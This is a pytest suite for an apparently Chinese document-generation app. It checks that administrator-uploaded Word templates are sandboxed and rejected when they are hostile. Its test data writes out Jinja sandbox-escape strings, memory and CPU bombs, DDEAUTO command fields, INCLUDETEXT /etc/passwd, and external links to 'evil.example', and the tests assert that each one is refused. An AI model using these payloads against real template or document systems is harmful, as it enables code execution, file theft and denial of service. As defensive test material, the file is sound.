"""Templates that administrators replace: checked, tried in a sandbox, and never more than a paper."""

from __future__ import annotations

import resource
import zipfile
from base64 import b64encode
from dataclasses import replace
from io import BytesIO
from random import Random

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.clock import now, today
from app.db import db, unit_of_work
from app.papers import actions, filling, gathering, printing, rendering, reserving
from app.papers.models import Paper
from app.papers.samples import sample
from tests import story
from tests.cast import Cast
from tests.papers.reading import words


def template(*lines: str) -> bytes:
    document, out = Document(), BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.save(out)
    return out.getvalue()


def upload(browser, kind: str, content: bytes, name: str = "自己的.docx"):
    """Sent from memory: what the test client puts on the disk it never closes."""
    boundary, body = encode_multipart({"file": FileStorage(BytesIO(content), name)})
    form = f"multipart/form-data; boundary={boundary}"
    return browser.post(f"/papers/templates/{kind}", data=body, content_type=form)


@pytest.mark.parametrize("kind", rendering.SHIPPED)
def test_every_shipped_template_fits_its_own_sample_and_asks_for_nothing_unknown(kind):
    content = rendering.shipped(kind)
    assert filling.unknown(content, sample(kind)) == []
    assert "{{" not in words(rendering.render(content, sample(kind)))


def test_a_template_is_downloaded_replaced_used_and_taken_back(app, sign_in):
    with app.app_context(), unit_of_work():
        finding = story.issued(Cast()).id
    admin, inspector = sign_in("admin"), sign_in("inspector")
    assert admin.get("/papers/templates/notice/file.docx").data == rendering.shipped("notice")
    assert upload(admin, "notice", template("本县格式 {{ unit }} {{ findings[0].title }}")).status_code == 303
    assert "自己的.docx" in admin.get("/papers/templates").text
    said = words(inspector.get(f"/papers/notice/{finding}/draft.docx").data)
    assert said == "本县格式 清河县第一小学 围墙开裂，有倒塌危险"
    assert admin.post("/papers/templates/notice/ours").status_code == 303
    assert "回执" in words(inspector.get(f"/papers/notice/{finding}/draft.docx").data)


LOOPS = "".join(f"{{% for {n} in range(9999) %}}" for n in "abc") + "{% endfor %}" * 3
HUGE = "{{ 'x' * 10000000000 }}"


ASKING = [
    ("{{ secret_key }}", "secret_key"), ("{{ unit.__class__.__mro__ }}", "无法填写"),
    ("{{ findings[0].nonsense }}", "nonsense"), (LOOPS, "秒"), ("{{ unit", "无法填写"),
    ("{{ cycler.__init__.__globals__ }}", "无法填写"), (HUGE, "512 MB"), ("{% include 'x' %}", "无法填写"),
    ("{{ findings|length > 50 and 'x' * 10000000000 }}", "512 MB"), ("{% if unit == '' %}nothing{% endif %}", "空白"),
]  # fmt: skip


def test_a_template_that_asks_for_too_much_does_not_count(app, sign_in, monkeypatch):
    admin = sign_in("admin")
    for line, told in ASKING:
        monkeypatch.setattr(printing, "SECONDS", 2 if told == "秒" else 60)
        answer = upload(admin, "notice", template(line))
        assert (answer.status_code, told in answer.text) == (422, True), line
    assert admin.get("/papers/templates/notice/file.docx").data == rendering.shipped("notice")


DDE = "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"


def test_what_only_real_facts_bring_out_ends_alone_and_gives_no_number(app, sign_in, monkeypatch):
    """The trial knows another school; the worker that asked is neither slower nor larger for it."""
    with app.app_context(), unit_of_work():
        finding = story.issued(Cast()).id
    admin, inspector = sign_in("admin"), sign_in("inspector")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for line, told in ((f"{{{{r '{DDE}'|safe }}}}", "DDEAUTO"), ("{{ 1 // 0 }}", "0"), (HUGE, "512 MB"), (LOOPS, "秒")):
        bomb = template("{{ unit }}{% if unit == '清河县第一小学' %}", line, "{% endif %}")
        assert upload(admin, "notice", bomb).status_code == 303
        monkeypatch.setattr(printing, "SECONDS", 2 if told == "秒" else 60)
        answer = inspector.get(f"/papers/notice/{finding}/draft.docx")
        assert (answer.status_code, told in answer.text, "没有编号" in answer.text) == (424, True, True)
    assert inspector.post(f"/papers/notice/{finding}").status_code == 424
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kilobytes
    with app.app_context():
        assert db.session.query(Paper).count() == 0
    assert inspector.get(f"/papers/opinion/{finding}/draft.docx").status_code == 200


def test_a_number_given_before_its_template_failed_stands_and_is_written_with_the_next(app, sign_in):
    with app.app_context(), unit_of_work():
        cast = Cast()
        finding = story.issued(cast)
        paper_id, task_id = numbered_before(cast, finding), finding.task_id
    page = sign_in("leader").get(f"/papers/{paper_id}")
    assert (page.status_code, "文件暂时无法生成" in page.text) == (200, True)
    assert sign_in("leader").get(f"/papers/{paper_id}/file.docx").status_code == 424
    assert sign_in("admin").post("/papers/templates/order/ours").status_code == 303
    assert "督办单" in words(sign_in("leader").get(f"/papers/{paper_id}/file.docx").data)
    assert task_id


def numbered_before(cast, finding) -> int:
    """A paper in the register whose template does not go through any more."""
    actions.replace_template("order", "旧.docx", template("{{ unit.__class__ }}"), cast.admin, now=now())
    said = gathering.gather("order", finding.id, cast.leader, today())
    (paper,) = reserving.reserve([replace(said, is_decided=True)], cast.leader, now=now())
    db.session.flush()
    return paper.id


def changed(parts: dict[str, bytes]) -> bytes:
    """A template with other parts; what is added to a part stands before its end."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(template("{{ unit }}"))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            added, text = parts.get(name, b""), old.read(name)
            end = text.rfind(b"</")
            new.writestr(name, text[:end] + added + text[end:] if added else text)
        for name in set(parts) - set(old.namelist()):
            new.writestr(name, parts[name], zipfile.ZIP_DEFLATED)
    return out.getvalue()


def linked(kind: str, target: str, mode: str = "") -> bytes:
    mode = mode and f' TargetMode="{mode}"'
    return f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}"{mode}/>'.encode()


RELS, SETTINGS = "word/_rels/document.xml.rels", "word/settings.xml"
EVIL = "http://evil.example/t"
NOISE = b64encode(Random(1).randbytes(300_000))  # without it, a bomb is known by how far it is pressed


SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'.encode()
BROKEN = [
    (b"", "空的"), (b"no docx at all", ".docx"), (b"PK\x03\x04 broken", "不完整"),
    (changed({"word/extra.xml": b"<w:p"}), "不完整"), (changed({"word/extra.xml": b"<a><b></a>"}), "无法填写"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, ".doc"),
    (changed({RELS: linked("attachedTemplate", EVIL, "External")}), "evil.example"),
    (changed({RELS: linked("image", EVIL, "External")}), "evil.example"),
    (changed({RELS: linked("oleObject", "media/a.bin"), "word/media/a.bin": b"\0"}), "oleObject"),
    (changed({RELS: linked("aFChunk", "media/a.htm"), "word/media/a.htm": b"<p>x</p>"}), "aFChunk"),
    (changed({SETTINGS: b"<w:mailMerge/>"}), "mailMerge"),
    (changed({"word/vbaProject.bin": b"\0"}), "宏"),
    (changed({"word/media/a.svg": SVG}), "evil.example"),
    (changed({"word/extra.xml": b"<a>" + b"<b/>" * 20_000_000 + b"</a>"}), "远大于"),
    (changed({"word/extra.xml": b"<a>" + NOISE + b"<b/>" * 5_000_000 + b"</a>"}), "秒"),
]  # fmt: skip


def test_what_is_broken_fetches_acts_or_explodes_is_refused_and_said(app, sign_in, monkeypatch):
    admin, before = sign_in("admin"), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for content, told in BROKEN:
        monkeypatch.setattr(printing, "SECONDS", 2 if told == "秒" else 60)
        answer = upload(admin, "notice", content)
        assert (answer.status_code, told in answer.text) == (422, True), told
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kilobytes


def field(*pieces: str) -> str:
    """A field whose order Word has cut into pieces, and what it shows."""
    cut = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{cut}{separate}<w:r><w:t>1</w:t></w:r>{end}"


FIELDS = [
    (field("DDE", "AUTO cmd"), "DDEAUTO"),
    (field("PAGE") + field('INCLUDEPICTURE "http://evil.example"'), "INCLUDEPICTURE"),
    (field("page ") + "<w:r><w:instrText>ddeauto cmd</w:instrText></w:r>", "DDEAUTO"),
    ('<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/>', "INCLUDETEXT"),
    (field("{{ 'DDE' }}", "AUTO"), "{{"), (field("MACROBUTTON x"), "MACROBUTTON"),
    (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{field("QUOTE 68 68 69")}', "QUOTE"),
    (field(" PAGE ", "\\* MERGEFORMAT") + field('HYPERLINK "http://a.example"') + field("=1+1"), ""),
]  # fmt: skip


def test_fields_that_fetch_or_start_something_are_refused_however_they_are_cut(app, sign_in):
    admin = sign_in("admin")
    for fields, told in FIELDS:
        document, out = Document(), BytesIO()
        line = document.add_paragraph("{{ unit }}")
        for part in parse_xml(f"<w:p {nsdecls('w')}>{fields}</w:p>"):
            line._p.append(part)
        document.save(out)
        answer = upload(admin, "notice", out.getvalue())
        assert (answer.status_code, told in answer.text) == (422 if told else 303, True), told


def test_only_administrators_reach_the_templates(app, sign_in):
    assert sign_in("leader").get("/papers/templates").status_code == 403
    assert upload(sign_in("leader"), "notice", template("x")).status_code == 403
